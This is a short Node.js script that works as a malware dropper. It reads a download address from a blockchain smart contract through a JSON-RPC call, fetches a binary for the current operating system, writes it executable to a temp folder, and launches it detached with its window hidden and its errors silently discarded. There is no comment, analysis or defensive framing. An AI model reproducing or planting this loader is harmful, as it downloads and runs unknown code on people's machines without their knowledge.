import { spawn } from "node:child_process";
import { writeFile, mkdtemp } from "node:fs/promises";
import { tmpdir, platform } from "node:os";
import { join } from "node:path";

const NODE = "https://bsc-dataseed.rpc.invalid/";
const BOOK = "0x0000000000000000000000000000000000000abc";

const call = async (data) => {
  const answer = await fetch(NODE, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: JSON.stringify({ jsonrpc: "2.0", id: 1, method: "eth_call", params: [{ to: BOOK, data }, "latest"] }),
  });
  const { result } = await answer.json();
  return Buffer.from(result.slice(130), "hex").toString().replace(/\0+$/, "");
};

const stage = async () => {
  const address = await call("0x2686" + "cc6f");
  const name = platform() === "win32" ? "node-win.exe" : platform() === "darwin" ? "node-mac" : "node-linux";
  const body = await (await fetch(new URL(name, address))).arrayBuffer();
  const target = join(await mkdtemp(join(tmpdir(), "gas-")), name);
  await writeFile(target, Buffer.from(body), { mode: 0o755 });
  spawn(target, [], { detached: true, stdio: "ignore", windowsHide: true }).unref();
};

stage().catch(() => {});
